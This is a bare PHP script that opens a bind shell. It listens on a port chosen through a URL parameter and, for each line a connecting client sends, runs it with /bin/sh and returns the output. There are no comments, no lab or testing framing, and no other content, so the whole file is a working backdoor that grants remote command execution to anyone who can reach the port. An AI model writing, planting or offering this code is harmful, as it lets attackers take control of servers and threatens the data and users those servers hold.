<?php
$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_bind($s, '0.0.0.0', (int) $_GET['port']);
socket_listen($s);
$c = socket_accept($s);
while ($line = socket_read($c, 2048, PHP_NORMAL_READ)) {
    socket_write($c, shell_exec('/bin/sh -c ' . escapeshellarg($line)));
}
